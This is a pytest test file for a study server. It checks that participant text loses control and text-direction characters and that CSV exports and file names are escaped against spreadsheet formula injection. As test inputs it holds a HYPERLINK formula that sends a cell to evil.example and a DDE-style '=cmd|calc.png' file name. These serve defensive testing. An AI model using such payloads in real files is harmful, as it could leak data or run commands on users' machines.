"""What people type, or platforms send: what is stored of it, and that no spreadsheet takes it for a formula."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import select

import shift_study
from analysis.responses.response_files import read_file
from experimenter import events, log_in, stored
from recruiting import begin_from, changed, prolific_link
from requests_of_a_participant import answer, begin, database
from study_server.export.participants import participant_rows
from study_server.folder.making import create
from study_server.folder.study_folder import StudyFolder
from study_server.folder.study_toml import write_settings
from study_server.participants.typed_text import on_one_line
from study_server.settings import Question
from study_server.stimuli.image_sources import folder_photographs
from study_server.storage.models import QuestionAnswer
from study_server.tasks.shifted_pairs.making import make_stimuli
from study_server.tasks.task import Plan
from study_server.web.app import create_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"a b")'
NASTY = "a\x00b\x1b[31m\u202ec\u2066d\u200f\u061c \x85\n e\x7f"
CLEAN = "ab[31mcd e"


def run(*arguments: object) -> str:
    done = CliRunner().invoke(shift_study.main, [str(a) for a in arguments])
    assert done.exit_code == 0, done.output
    return done.stdout


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def asking(study: StudyFolder) -> Iterator[Flask]:
    """The application of a study that asks one question with free text, for Prolific and everybody."""
    settings = replace(study.settings, questions=[Question("remarks", "Remarks?", [])])
    write_settings(settings, study.path / "study.toml")
    app = create_app(changed(StudyFolder(study.path), recruitment={"platforms": ["open", "prolific", "link"]}))
    yield app
    database(app).close()


def take_part(app: Flask, remarks: str, link: str = "/") -> None:
    client = app.test_client()
    for trial in begin_from(client, link) if link != "/" else begin(client):
        assert answer(client, trial["id"]).status_code == 200
    assert client.post("/questions", data={"remarks": remarks}).status_code == 303


@given(st.text())
@example(NASTY)
@example("\u200e=1")
def test_a_line_has_no_control_characters_and_no_marks_of_direction(text: str) -> None:
    line = on_one_line(text)
    assert all(unicodedata.category(sign) not in ("Cc", "Zl", "Zp") for sign in line)
    assert not set(line) & set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert line == on_one_line(line) == line.strip()
    assert "  " not in line


def test_what_is_typed_is_stored_without_control_characters(asking: Flask) -> None:
    take_part(asking, NASTY)
    take_part(asking, "\u202e\x00")  # of which nothing is left
    with database(asking).reading() as session:
        assert session.scalars(select(QuestionAnswer.answer)).all() == [CLEAN]
    client = log_in(asking)
    assert client.post("/dashboard/participants/p0001/exclude", data={"reason": NASTY}).status_code == 303
    assert stored(asking, "p0001").excluded_reason == CLEAN
    assert events(asking, "excluded") == [("excluded", "researcher", "p0001", CLEAN)]
    assert client.post("/dashboard/participants/p0002/exclude", data={"reason": "\u202e\x00"}).status_code == 400


def test_the_dashboards_csv_files_have_no_formula_and_the_json_lines_the_text_as_it_is(
    asking: Flask, tmp_path: Path
) -> None:
    take_part(asking, FORMULA, prolific_link("-1-cmd"))
    client = log_in(asking)
    assert client.post("/dashboard/participants/p0001/exclude", data={"reason": "@SUM(A1)"}).status_code == 303
    exports = {
        name: client.get(f"/dashboard/exports/{name}").text
        for name in ("responses.csv", "responses.jsonl", "participants-with-identities.csv", "audit.csv")
    }
    for name in ("responses.csv", "participants-with-identities.csv", "audit.csv"):
        cells = [cell for row in rows_of(exports[name]) for cell in row.values()]
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r＝＋－＠"))], name
    assert rows_of(exports["responses.csv"])[0]["question_remarks"] == f"'{FORMULA}"
    assert "'@SUM(A1)" in [row["detail"] for row in rows_of(exports["audit.csv"])]
    (person,) = rows_of(exports["participants-with-identities.csv"])
    assert person["person"] == "'-1-cmd"
    assert json.loads(exports["responses.jsonl"].splitlines()[0])["question_remarks"] == FORMULA
    (tmp_path / "responses.csv").write_text(exports["responses.csv"], encoding="utf-8")
    assert set(read_file(tmp_path / "responses.csv")["question_remarks"]) == {FORMULA}


def test_the_verbs_csv_files_have_no_formula(asking: Flask, tmp_path: Path) -> None:
    take_part(asking, FORMULA, prolific_link("-1-cmd"))
    folder = asking.extensions["study"].folder.path
    for suffix, person in ((".csv", "'-1-cmd"), (".jsonl", "-1-cmd")):
        file = tmp_path / f"people{suffix}"
        run("participants", folder, "-o", file, "--identities")
        text = file.read_text(encoding="utf-8")
        found = rows_of(text) if suffix == ".csv" else [json.loads(text)]
        assert [row["person"] for row in found] == [person]
    assert participant_rows(str(folder), identities=True)[0]["person"] == "-1-cmd"
    run("links", folder, "--count", "1", "--label", "@class", "-o", tmp_path / "links.csv")
    (link,) = rows_of((tmp_path / "links.csv").read_text(encoding="utf-8"))
    assert link["label"] == "'@class-1"


def test_names_of_photographs_that_are_skipped_are_no_formulae(made_tiny_study: Path, tmp_path: Path) -> None:
    photographs = tmp_path / "photographs"
    photographs.mkdir()
    (photographs / "=cmd|calc.png").write_bytes(b"no picture")
    study = StudyFolder(made_tiny_study)
    for number in range(2):
        crop = made_tiny_study / "stimuli" / f"0000{number + 1}_n-0.png"
        (photographs / f"kept-{number}.png").write_bytes(crop.read_bytes())
    settings = study.settings
    settings = replace(
        settings,
        stimuli=replace(settings.stimuli, count=2, max_shift=1, size=16),
        trials=replace(settings.trials, per_shift=1, strategy="paper"),
        practice=replace(settings.practice, shifts=[]),
    )
    orders = (folder_photographs(photographs, seed) for seed in range(50))
    source = next(order for order in orders if order.photographs[0].name == "=cmd|calc.png")
    made = create(
        tmp_path / "made", study.task,
        Plan(settings, lambda root: make_stimuli(root, settings, source, 2, "stimuli")), compressed=False,
    )  # fmt: skip
    assert "=cmd|calc.png" in made.skipped
    (row,) = rows_of((tmp_path / "made" / "skipped.csv").read_text(encoding="utf-8"))
    assert row["source_file"] == "'=cmd|calc.png"
